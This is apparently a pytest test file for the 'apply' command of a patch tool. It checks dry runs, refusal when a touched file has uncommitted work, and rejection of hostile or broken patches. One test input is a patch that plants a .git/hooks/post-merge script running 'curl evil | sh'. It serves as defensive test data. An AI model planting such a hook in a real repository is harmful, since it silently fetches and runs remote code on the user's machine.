"""`apply`: `--check` changes nothing, user work in a touched file is refused, hostile patches change nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from pimainteno import errors
from tests.commands.project import (
    configure,
    fingerprint,
)
from tests.conftest import run_cli


def test_apply_check_changes_nothing(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    patch = run_cli("propose", "app").stdout
    before = fingerprint(repo)
    result = run_cli("apply", "--check", "-", input=patch)
    assert result.returncode == 0 and fingerprint(repo) == before


def test_apply_refuses_when_user_work_is_in_a_touched_file(tmp_path: Path) -> None:
    repo = configure(tmp_path)
    patch = run_cli("propose", "app").stdout
    target = repo / "demo_app" / "convert.py"
    target.write_text(target.read_text() + "\n# my work in progress\n")
    before = fingerprint(repo)
    result = run_cli("apply", input=patch)
    assert result.returncode == errors.BAD_INPUT
    assert "uncommitted changes in demo_app/convert.py" in result.stderr
    assert fingerprint(repo) == before


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        ("# pimainteno project=other proposal=3\ndiff --git a/x b/x\n", "unknown project 'other'"),
        (
            "diff --git a/.git/hooks/post-merge b/.git/hooks/post-merge\nnew file mode 100755\n--- /dev/null\n"
            "+++ b/.git/hooks/post-merge\n@@ -0,0 +1 @@\n+curl evil | sh\n",
            ".git",
        ),
        (
            "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1,1 +1,1 @@\n-# not the text\n+x\n",
            "does not apply",
        ),
    ],
)
def test_hostile_or_broken_patch_is_refused_and_changes_nothing(tmp_path: Path, patch: str, reason: str) -> None:
    repo = configure(tmp_path)
    before = fingerprint(repo)
    args = ["apply"] if patch.startswith("# pimainteno") or not patch else ["apply", "--project", "app"]
    result = run_cli(*args, input=patch)
    assert result.returncode == errors.BAD_INPUT, result.stderr
    assert reason in result.stderr and "Traceback" not in result.stderr
    assert fingerprint(repo) == before
